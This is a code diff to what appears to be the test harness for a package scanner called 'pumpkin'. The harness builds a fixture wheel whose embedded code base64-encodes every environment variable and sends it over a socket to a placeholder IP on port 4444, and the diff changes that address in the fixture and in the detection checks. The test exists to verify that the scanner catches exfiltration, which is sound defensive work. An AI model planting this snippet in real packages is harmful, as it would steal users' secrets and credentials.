@@ -37,7 +37,7 @@ WHEEL = "beacon_helper-1.0-py3-none-any.whl"
 CODE = """
 import base64, os, socket
 text = base64.b64encode(repr(dict(os.environ)).encode())
-link = socket.create_connection(("203.0.113.9", 4444), timeout=5)
+link = socket.create_connection(("198.51.100.9", 4444), timeout=5)
 link.sendall(text)
 """
 ENVIRONMENT = {
@@ -325,7 +325,8 @@ def images() -> set[str]:
 def accept_image(place: Place, made: list[str]) -> None:
     said = json.loads(place.run(PROGRAM, "scan", f"/root/{WHEEL}", "--json", "--fail-on", "never"))
     text = json.dumps(said)
-    check("203.0.113.9" in text and "isolation:" not in text, "pumpkin scan: a confined worker found the address", text)
+    found = "198.51.100.9" in text and "isolation:" not in text
+    check(found, "pumpkin scan: a confined worker found the address", text)
     before = images()
     began = time.monotonic()
     tag = place.run(PROGRAM, "sandbox", "build", within_s=590).split()[-1]
@@ -338,7 +339,7 @@ def accept_analysis(place: Place) -> None:
     argv = (PROGRAM, "analyze", f"/root/{WHEEL}", "--json", "--fail-on", "never")
     found = json.loads(place.run(*argv, within_s=300))
     text = json.dumps(found)
-    seen = [one for one in found["findings"] if "203.0.113.9" in json.dumps(one)]
+    seen = [one for one in found["findings"] if "198.51.100.9" in json.dumps(one)]
     tools = sorted({one["tool"] for one in seen})
     ran = "dynamic" in tools and "static" in tools
     said = f"{found['outcome']}, score {found['score']}, address seen by {tools}, not checked: {found['not_checked']}"
